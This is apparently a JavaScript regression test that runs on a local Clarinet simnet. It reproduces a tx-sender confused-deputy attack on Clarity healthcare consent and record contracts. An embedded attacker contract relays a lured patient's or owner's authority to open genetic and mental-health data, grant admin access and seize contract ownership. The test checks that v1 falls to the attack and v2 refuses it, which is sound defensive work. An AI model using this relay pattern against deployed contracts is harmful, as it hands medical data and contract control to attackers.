// The attack of issue 26 on Clarinet's simnet: a patient (and the owner) lured into
// calling a third party's contract, which calls these contracts in their name.
//
// On v1 (`contracts/v1/`, `tx-sender`) every attempt lands: the patient's GENETIC
// and MENTAL-HEALTH data are opened to the attacker, the attacker gets ADMIN access
// to the patient's records, and the owner's contracts change hands. On v2
// (`contracts/`, `contract-caller`) each attempt acts as the attacker contract,
// which is no patient and no owner, so each is refused and the victims' state is
// what it was. The run fails unless both hold, at each epoch in EPOCHS (default
// "2.5,3.4").
import { rmSync } from "node:fs";
import { join } from "node:path";
import { initSimnet } from "@stacks/clarinet-sdk";
import { Cl, cvToString } from "@stacks/transactions";
import { project } from "./project.mjs";

const log = console.log;
console.log = () => {};
const epochs = (process.env.EPOCHS ?? "2.5,3.4").split(",");

const GENETIC = 5;
const MENTAL_HEALTH = 4;
const ADMIN = 2;

/** A contract that passes its callers' authority on, as any dapp could. */
const attackerSource = (deployer) => `
(define-public (grant-genetic (to principal) (until uint))
  (contract-call? '${deployer}.patient-consent grant-consent to u${GENETIC} (some until) "research"))
(define-public (grant-sensitive (to principal) (until uint))
  (contract-call? '${deployer}.patient-consent grant-consent-batch to (list u${MENTAL_HEALTH} u${GENETIC}) (some until) "research"))
(define-public (grant-admin (patient principal) (to principal))
  (contract-call? '${deployer}.record-management grant-provider-access patient to u${ADMIN} none false))
(define-public (take-consent (to principal))
  (contract-call? '${deployer}.patient-consent transfer-ownership to))
(define-public (take-records (to principal))
  (contract-call? '${deployer}.record-management transfer-ownership to))
`;

/** Runs every attempt on one version; returns which landed, and which victim reads changed. */
async function attempts(epoch, sources) {
  const dir = project(epoch, sources);
  try {
    const simnet = await initSimnet(join(dir, "Clarinet.toml"), true, { trackCosts: false, trackCoverage: false });
    const accounts = simnet.getAccounts();
    const [owner, patient, attacker] = [simnet.deployer, accounts.get("wallet_1"), accounts.get("wallet_2")];
    const register = simnet.callPublicFn("patient-consent", "register-patient", [Cl.stringAscii("PAT-1"), Cl.uint(19800412), Cl.none(), Cl.none()], patient);
    if (cvToString(register.result) !== "(ok true)") throw new Error(`registering the patient: ${cvToString(register.result)}`);
    const deployed = simnet.deployContract("attacker", attackerSource(owner), { clarityVersion: 2 }, attacker);
    if (cvToString(deployed.result) !== "true") throw new Error(`deploying the attacker contract: ${cvToString(deployed.result)}`);
    const lure = `${attacker}.attacker`;
    const until = Cl.uint(simnet.blockHeight + 1000);

    // What the victims hold, as anyone reads it.
    const read = (contract, fn, args) => cvToString(simnet.callReadOnlyFn(contract, fn, args, owner).result);
    const held = () => ({
      genetic: read("patient-consent", "has-consent", [Cl.principal(patient), Cl.principal(attacker), Cl.uint(GENETIC)]),
      mentalHealth: read("patient-consent", "has-consent", [Cl.principal(patient), Cl.principal(attacker), Cl.uint(MENTAL_HEALTH)]),
      admin: read("record-management", "get-provider-access", [Cl.principal(patient), Cl.principal(attacker)]),
      consentOwner: read("patient-consent", "get-contract-owner", []),
      recordsOwner: read("record-management", "get-contract-owner", []),
    });
    const before = held();
    const tries = [
      ["patient grants GENETIC consent", patient, "grant-genetic", [Cl.principal(attacker), until]],
      ["patient grants MENTAL-HEALTH and GENETIC consent", patient, "grant-sensitive", [Cl.principal(attacker), until]],
      ["patient grants ADMIN access to their records", patient, "grant-admin", [Cl.principal(patient), Cl.principal(attacker)]],
      ["owner transfers patient-consent", owner, "take-consent", [Cl.principal(attacker)]],
      ["owner transfers record-management", owner, "take-records", [Cl.principal(attacker)]],
    ];
    const outcomes = tries.map(([what, victim, fn, args]) => ({ what, result: cvToString(simnet.callPublicFn(lure, fn, args, victim).result) }));
    const after = held();
    const changed = Object.keys(before).filter((k) => before[k] !== after[k]);
    return { outcomes, changed };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

let failures = 0;
for (const epoch of epochs) {
  const v1 = await attempts(epoch, "contracts/v1");
  const v2 = await attempts(epoch, "contracts");
  for (const [index, { what, result }] of v2.outcomes.entries()) {
    const then = v1.outcomes[index].result;
    const ok = then.startsWith("(ok") && result.startsWith("(err");
    if (!ok) failures += 1;
    log(`${ok ? "refused" : "NOT REFUSED"} at ${epoch}: ${what}: v1 ${then}, v2 ${result}`);
  }
  if (v1.changed.length !== 5) {
    failures += 1;
    log(`at ${epoch}, v1 changed ${v1.changed.join(", ")} only: the attack did not land in full, so v2's refusal proves nothing`);
  }
  if (v2.changed.length !== 0) {
    failures += 1;
    log(`at ${epoch}, v2 let the attacker change ${v2.changed.join(", ")}`);
  }
}
log(`\n${failures === 0 ? "every attempt refused on v2 (and landed on v1)" : `${failures} failures`} at ${epochs.join(", ")}`);
process.exit(failures === 0 ? 0 : 1);
